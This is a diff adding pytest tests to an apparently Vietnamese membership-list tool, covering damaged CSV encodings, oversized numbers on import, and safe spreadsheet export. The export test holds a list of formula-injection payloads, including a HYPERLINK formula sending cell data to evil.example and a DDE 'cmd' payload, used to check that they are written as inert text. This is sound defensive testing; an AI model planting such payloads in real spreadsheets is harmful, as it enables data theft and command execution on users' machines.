@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import codecs
 import csv
 import io
 import os
@@ -795,6 +796,43 @@ def test_a_wrong_encoding_choice_is_refused(session, tmp_path):
     assert "bảng mã" in refused(session, path, encoding="utf-8")
 
 
+def stray_byte_csv(path: Path, *, bom: bool = False) -> Path:
+    """A UTF-8 list with one damaged byte in its third line (a name cut by a bad copy)."""
+    good = csv_bytes(CSV_ROWS, ";").encode("utf-8")
+    lines = good.split(b"\r\n")
+    lines[2] = lines[2].replace("Trương".encode(), b"Tr\xff\xf0ng")
+    path.write_bytes((codecs.BOM_UTF8 if bom else b"") + b"\r\n".join(lines))
+    return path
+
+
+@pytest.mark.parametrize("bom", [False, True])
+@pytest.mark.parametrize("encoding", ["auto", "utf-8"])
+def test_a_utf8_csv_with_a_stray_byte_is_refused_naming_where(session, tmp_path, bom, encoding):
+    path = stray_byte_csv(tmp_path / "list.csv", bom=bom)
+    message = refused(session, path, encoding=encoding)
+    assert message.startswith("Tệp có vẻ là UTF-8 nhưng hỏng ở 2 chỗ (đầu tiên ở dòng 3, ký tự")
+    assert "lưu lại dạng CSV UTF-8" in message
+
+
+def test_a_legacy_csv_with_a_byte_windows_1258_lacks_is_read_not_crashed(session, tmp_path):
+    path = tmp_path / "list.csv"
+    path.write_bytes(encode_tcvn3(csv_bytes(CSV_ROWS, ";")) + b"\x8d\r\n")  # cp1258: undefined
+    plan = plan_import(session.store, path, "members")
+    assert plan.encoding == "tcvn3"
+    assert [r.change.values["full_name"] for r in plan.rows if r.change] == [
+        "Nguyễn Thị Thủy",
+        "Trương Thị Ngọc Hường",
+    ]
+
+
+def test_cli_import_of_a_csv_with_a_stray_byte_exits_2_with_the_place(cli, tmp_path, capsys):
+    path = stray_byte_csv(tmp_path / "list.csv")
+    code, out = run("sheet", "import", "--data", str(cli), "--table", "members", str(path))
+    err = capsys.readouterr().err
+    assert code == 2 and out == ""
+    assert "dòng 3" in err and "Traceback" not in err and len(err.strip().splitlines()) == 1
+
+
 def test_an_xlsx_typed_with_vntime_fonts_is_retyped(session, tmp_path):
     def vntime(text: str) -> str:
         """What Excel shows for text typed in a ".VnTime" font: TCVN3 bytes as Windows-1252."""
@@ -875,6 +913,24 @@ def test_branch_heads_cadres_and_branches_import(session, tmp_path):
     assert outcome(plan, 2).change.values == {"established_on": "1995-03-15"}  # name kept
 
 
+@pytest.mark.parametrize("amount", [1e30, "100000000000000000000000", 2**70])
+def test_a_number_no_record_can_hold_is_a_rejected_row_not_a_crash(cli, tmp_path, amount):
+    heads = xlsx(
+        tmp_path / "heads.xlsx",
+        [
+            ["Họ tên", "Năm sinh", "Chi hội", "Mức hỗ trợ"],
+            ["Lê Thị Cúc", 1978, "Thôn Bắc", amount],
+            ["Võ Thị Sen", 1980, "Thôn Đông", 500_000],
+        ],
+    )
+    args = ("sheet", "import", "--data", str(cli), "--table", "branch_heads", str(heads))
+    code, out = run(*args, "--apply")
+    assert code == 1
+    assert "Bị từ chối (1):" in out and "dòng 2, chi hội trưởng “Lê Thị Cúc”" in out
+    assert "Mức hỗ trợ (đồng): “" in out and "” quá lớn." in out
+    assert "Đã lưu: 1 thêm mới" in out
+
+
 # -- export --------------------------------------------------------------------------------
 
 
@@ -926,6 +982,56 @@ def test_export_has_labels_real_dates_and_no_personal_columns_unless_asked(sessi
     assert export_list(session.store, "members", out, status="Đang sinh hoạt").rows == 1
     with pytest.raises(SheetError, match="không tìm thấy chi hội"):
         export_list(session.store, "members", out, branch="Thôn Nam")
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&E2,"Bấm")',
+    "+1+1",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(session, tmp_path):
+    """Names and notes from an import, a load or a synced package: never live formulas."""
+    changes = [
+        Change("members", {"branch_id": DONG, "full_name": "Phạm Thị Lan", "note": text})
+        for text in FORMULAS
+    ]
+    changes.append(Change("members", {"branch_id": DONG, "full_name": "Phạm Thị Lụa", "note": "-"}))
+    session.store.write(changes)
+    out = tmp_path / "list.xlsx"
+    export_list(session.store, "members", out)
+    with zipfile.ZipFile(out) as z:
+        xml = z.read("xl/worksheets/sheet1.xml").decode()
+        styles = z.read("xl/styles.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml
+    assert 'quotePrefix="1"' in styles
+    reread = load_workbook(out)
+    ws = reread.active
+    headers = [c.value for c in ws[2]]
+    note = headers.index("Ghi chú") + 1
+    written = {}
+    for row in ws.iter_rows(min_row=3):
+        cell = row[note - 1]
+        if cell.value is not None:
+            written[cell.value] = cell
+        assert row[0].data_type == "n" and isinstance(row[0].value, int)  # STT: a number
+    stored = {r[0] for r in session.store.db.execute("SELECT note FROM members WHERE note > ''")}
+    assert stored == {f.strip() for f in FORMULAS} | {"-"}  # values are stored trimmed
+    for text in stored:
+        assert written[text].data_type == "s", text
+        assert written[text].quotePrefix, text
+    phones = [r[headers.index("Số điện thoại")].value for r in ws.iter_rows(min_row=3)]
+    assert "0912345678" in phones  # text, its leading zero kept
+    # What was written reads back as the same text.
+    plan = plan_import(session.store, out, "members")
+    counts = plan.counts()
+    assert counts[ADD] == counts[UPDATE] == counts[REJECTED] == 0
+    assert counts[UNCHANGED] + counts[DUPLICATE] == 3 + len(FORMULAS) + 1
 
 
 def test_indicators_export(session, tmp_path):
